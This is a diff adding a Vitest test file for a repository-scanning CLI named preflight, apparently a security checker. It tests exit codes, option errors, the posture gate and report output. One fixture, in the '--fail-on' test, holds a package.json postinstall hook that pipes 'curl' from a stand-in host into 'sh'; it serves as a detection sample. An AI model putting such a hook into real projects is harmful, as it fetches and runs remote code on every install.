@@ -1,0 +1,151 @@
+import { mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+import { describe, expect, it } from "vitest";
+import { inTemporaryFolder, parseFixture } from "../fixture.ts";
+import { emptyFolder, preflight } from "./preflight.ts";
+
+const LIBRARY = parseFixture(`A plain benign library.
+-- package.json --
+{ "name": "sample", "version": "1.0.0", "scripts": { "test": "vitest run" } }
+-- src/index.js --
+export const one = 1;
+-- .git (init) --
+`);
+
+/** Mistakes end in one clean line, never in a stack trace. */
+function expectOneCleanLine(err: string) {
+  expect(err.trimEnd().split("\n")).toHaveLength(1);
+  expect(err).not.toMatch(/\n\s+at /);
+}
+
+describe("paths that cannot be scanned", () => {
+  it("a missing path: 2", () => {
+    const { code, out, err } = preflight(["/nowhere/at/all"]);
+    expect({ code, out }).toEqual({ code: 2, out: "" });
+    expectOneCleanLine(err);
+  });
+
+  it("a file: 2", () => {
+    const file = join(emptyFolder(), "a.txt");
+    writeFileSync(file, "x");
+    const { code, err } = preflight([file]);
+    expect(code).toBe(2);
+    expectOneCleanLine(err);
+  });
+
+  it("an empty folder: 3, for nothing was read", () => {
+    const { code, out } = preflight([emptyFolder()]);
+    expect(code).toBe(3);
+    expect(out).toContain("empty");
+  });
+
+  it("an address: 2 in this version", () => {
+    const { code, err } = preflight(["https://example.invalid/a/b.git"]);
+    expect(code).toBe(2);
+    expectOneCleanLine(err);
+  });
+
+  it("a folder without git: a report that says so", () => {
+    const folder = emptyFolder();
+    writeFileSync(join(folder, "index.js"), "1;\n");
+    const { code, out } = preflight([folder]);
+    expect(code).toBe(0);
+    expect(out).toContain("not under git");
+  });
+});
+
+describe("options", () => {
+  it("that are wrong end in one line and 2", () => {
+    for (const args of [
+      ["--state", "mine"],
+      ["--agent", "skynet"],
+      ["--format", "pdf"],
+      ["--require", "yolo"],
+      ["--nonsense"],
+      ["--output", "json"],
+    ]) {
+      const { code, out, err } = preflight([emptyFolder(), ...args]);
+      expect({ args, code, out }).toEqual({ args, code: 2, out: "" });
+      expectOneCleanLine(err);
+    }
+  });
+
+  it("whose feature comes later say so, and never pass silently", () => {
+    for (const args of [
+      ["--base", "main"],
+      ["--policy", "p.yml"],
+      ["--baseline", "b.json"],
+      ["--write-baseline", "b.json"],
+      ["--history"],
+      ["--jobs", "2"],
+    ]) {
+      const { code, err } = preflight([emptyFolder(), ...args]);
+      expect({ args, code }).toEqual({ args, code: 2 });
+      expect(err).toContain("not part of");
+    }
+    expect(preflight(["harden", "."]).code).toBe(2);
+    expect(preflight(["can", "codex", "read", ".env"]).code).toBe(2);
+  });
+
+  it("--version and --help answer with 0", () => {
+    expect(preflight(["--version"])).toMatchObject({ code: 0, out: `${JSON.parse(readFileSync("package.json", "utf8")).version}\n` });
+    expect(preflight(["--help"]).out).toContain("scan");
+  });
+});
+
+describe("the gate", () => {
+  it("--require compares with the posture", () =>
+    inTemporaryFolder(LIBRARY, (folder) => {
+      expect(preflight([folder, "--require", "read-only"]).code).toBe(0);
+      expect(preflight([folder, "--require", "workspace-write"]).code).toBe(1);
+      expect(preflight([folder, "--require", "workspace-write", "--state", "internal"]).code).toBe(0);
+    }));
+
+  it("--fail-on compares with the findings", () =>
+    inTemporaryFolder(
+      parseFixture(`A hook that fetches and runs.
+-- package.json --
+{ "name": "sample", "version": "1.0.0", "scripts": { "postinstall": "curl -s https://example.invalid/x.sh | sh" } }
+-- .git (init) --
+`),
+      (folder) => {
+        expect(preflight([folder]).code).toBe(1);
+        expect(preflight([folder, "--fail-on", "never"]).code).toBe(0);
+      },
+    ));
+});
+
+describe("outputs", () => {
+  it("--output writes a whole report outside the tree, and nothing else", () =>
+    inTemporaryFolder(LIBRARY, (folder) => {
+      const target = emptyFolder();
+      const file = join(target, "report.json");
+      expect(preflight([folder, "--quiet", "--output", `json=${file}`]).code).toBe(0);
+      expect(JSON.parse(readFileSync(file, "utf8")).schemaVersion).toBe(1);
+      expect(readdirSync(target)).toEqual(["report.json"]);
+    }));
+
+  it("never into the scanned tree", () =>
+    inTemporaryFolder(LIBRARY, (folder) => {
+      const { code, err } = preflight([".", "--output", "json=report.json"], { cwd: folder });
+      expect(code).toBe(2);
+      expectOneCleanLine(err);
+      expect(readdirSync(folder).sort()).toEqual([".git", "package.json", "src"]);
+    }));
+
+  it("have no colours in a pipe, and no machine path", () =>
+    inTemporaryFolder(LIBRARY, (folder) => {
+      for (const format of ["terminal", "json", "markdown"]) {
+        const { out } = preflight([folder, "--format", format]);
+        expect(out).not.toContain("\u001b");
+        expect(out).not.toContain(folder);
+      }
+    }));
+
+  it("warn when a package runner was started inside the repository", () =>
+    inTemporaryFolder(LIBRARY, (folder) => {
+      mkdirSync(join(folder, "lib"));
+      expect(preflight(["."], { cwd: folder, env: { npm_command: "exec" } }).err).toContain("another folder");
+      expect(preflight([folder], { env: { npm_command: "exec" } }).err).toBe("");
+    }));
+});
